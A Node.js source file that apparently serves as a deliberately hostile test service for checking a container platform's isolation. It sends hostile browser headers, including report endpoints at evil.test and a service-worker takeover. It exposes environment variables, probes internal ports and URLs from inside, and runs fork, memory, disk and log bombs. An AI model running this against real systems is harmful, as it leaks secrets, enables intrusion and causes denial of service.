import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, get } from 'node:http';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

// A hostile application: records every request, answers with every header that a
// service must not send to a browser, and runs attacks from inside on request.
const page = readFileSync(new URL('page.html', import.meta.url));
const boot = randomUUID();
const seen = [];
const NAMES = [
  'spawner_visit',
  'spawner_access',
  'spawner_refresh',
  '__Host-spawner_visit',
  'Spawner_Visit',
  '=spawner_visit',
];

const hostileHeaders = ({ origin, host = '' }) => ({
  'set-cookie': NAMES.flatMap((name) => [
    `${name}=tossed; Path=/`,
    `${name}=tossed; Path=/api`,
    `${name}=tossed; Path=/; Domain=${host.replace(/:\d+$/, '').split('.').slice(-2).join('.')}`,
  ]).concat('theirs=1; Path=/'),
  'access-control-allow-origin': origin ?? '*',
  'access-control-allow-credentials': 'true',
  'access-control-allow-headers': '*',
  'clear-site-data': '"*"',
  'service-worker-allowed': '/',
  'strict-transport-security': 'max-age=31536000; includeSubDomains',
  'report-to': '{"group":"x","max_age":1,"endpoints":[{"url":"https://evil.test/"}]}',
  nel: '{"report_to":"x","max_age":1}',
  'alt-svc': 'h2="evil.test:443"',
});

const actions = {
  '/seen': () => seen,
  '/environment': () => process.env,
  '/exists': ({ path }) => existsSync(path),
  '/reach': ({ place }) => reach(place),
  '/ask': ({ url }) => askFromInside(url),
  '/tls': ({ place, text, ...identity }) => tlsFromInside(place, text, identity),
  '/datagram': ({ place, bytes }) => datagram(place, bytes),
  '/bomb': ({ kind }) => bomb(kind),
};

const server = createServer(async (request, response) => {
  const url = new URL(request.url, 'http://service');
  const isOurs = request.headers['user-agent'] === 'Spawner-Probe' || url.pathname in actions;
  if (!isOurs) seen.push({ method: request.method, url: request.url, headers: request.headers });
  const headers = hostileHeaders(request.headers);
  if (url.pathname === '/page') return response.writeHead(200, { ...headers, 'content-type': 'text/html' }).end(page);
  if (request.headers['service-worker'] || url.pathname === '/worker.js') {
    response.writeHead(200, { ...headers, 'content-type': 'text/javascript' });
    const takesOver = "event.respondWith(new Response('taken over'))";
    return response.end(`addEventListener('fetch', (event) => event.request.url.includes('/page') || ${takesOver});`);
  }
  if (url.pathname === '/stream') {
    response.writeHead(200, { 'content-type': 'text/event-stream' });
    return response.write('data: begun\n\n');
  }
  const action = actions[url.pathname];
  const answer = action ? await action(Object.fromEntries(url.searchParams)) : identity(request);
  response.writeHead(200, { ...headers, 'content-type': 'application/json' });
  response.end(JSON.stringify(answer));
});
server.on('upgrade', (request, socket) => {
  seen.push({ method: 'UPGRADE', url: request.url, headers: request.headers });
  socket.on('error', () => undefined);
  socket.write('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n');
});
server.listen(Number(process.env.PORT ?? 8080), process.env.HOST ?? '0.0.0.0');

const identity = ({ url, headers }) => {
  const { USER_SLUG: slug, CONTAINER_TYPE: type } = process.env;
  return { hostile: true, service: `${slug}-${type}`, boot, url, headers };
};

const reach = (place) =>
  new Promise((resolve) => {
    const [host, port] = place.split(':');
    const socket = connect({ host, port: Number(port), timeout: 2000 });
    const say = (outcome) => {
      socket.destroy();
      resolve({ outcome });
    };
    socket.once('connect', () => say('open')).once('timeout', () => say('silent'));
    socket.once('error', ({ code }) => say(code));
  });

const askFromInside = (url) =>
  new Promise((resolve) => {
    const request = get(url, { timeout: 3000 }, (answer) => {
      let text = '';
      answer.on('data', (chunk) => (text += chunk)).on('end', () => resolve({ status: answer.statusCode, text }));
    });
    request.once('timeout', () => request.destroy(new Error('silent')));
    request.once('error', ({ code, message }) => resolve({ status: null, text: code ?? message }));
  });

/** What comes back for this text, in a connection with TLS and this certificate, if there is one. */
const tlsFromInside = (place, text, identity) =>
  new Promise((resolve) => {
    const [host, port] = place.split(':');
    let answer = '';
    const socket = connectTls({ host, port: Number(port), ...identity, rejectUnauthorized: false, timeout: 3000 }, () =>
      socket.write(text),
    );
    socket.on('data', (chunk) => (answer += chunk)).once('timeout', () => socket.destroy(new Error('silent')));
    socket.once('error', ({ code, message }) => (answer ||= code ?? message));
    socket.once('close', () => resolve({ answer }));
  });

const datagram = (place, bytes) =>
  new Promise((resolve) => {
    const [host, port] = place.split(':');
    const socket = createSocket('udp4');
    socket.send(Buffer.from(bytes, 'hex'), Number(port), host, (error) => {
      socket.close();
      resolve({ sent: !error });
    });
  });

const bombs = {
  /** Each child is one more process; beyond the limit none starts. */
  fork: async () => {
    const children = Array.from({ length: 400 }, () => spawn('sleep', ['20'], { stdio: 'ignore' }));
    const begun = await Promise.all(
      children.map(
        (child) =>
          new Promise((resolve) => child.once('spawn', () => resolve(true)).once('error', () => resolve(false))),
      ),
    );
    for (const child of children) child.kill('SIGKILL');
    return { begun: begun.filter(Boolean).length };
  },
  /** In a process of its own, so that the service survives to report. */
  memory: () =>
    new Promise((resolve) => {
      const greedy = 'const kept = []; for (;;) kept.push(Buffer.alloc(8 * 2 ** 20, 1));';
      spawn(process.execPath, ['-e', greedy], { stdio: 'ignore' }).once('exit', (code, signal) =>
        resolve({ code, signal }),
      );
    }),
  disk: () => {
    const refused = {};
    for (const file of ['/x', '/var/x', '/opt/hostile/x', '/tmp/x']) {
      try {
        for (let part = 0; part < 100; part += 1) writeFileSync(file, Buffer.alloc(2 ** 20, 1), { flag: 'a' });
        refused[file] = null;
      } catch ({ code }) {
        refused[file] = code;
      }
    }
    return refused;
  },
  log: async () => {
    const line = `${'x'.repeat(999)}\n`;
    for (let written = 0; written < 16_000; written += 1) {
      if (!process.stdout.write(line)) await new Promise((resolve) => process.stdout.once('drain', resolve));
    }
    return { megabytes: 16 };
  },
};

const bomb = (kind) => bombs[kind]();
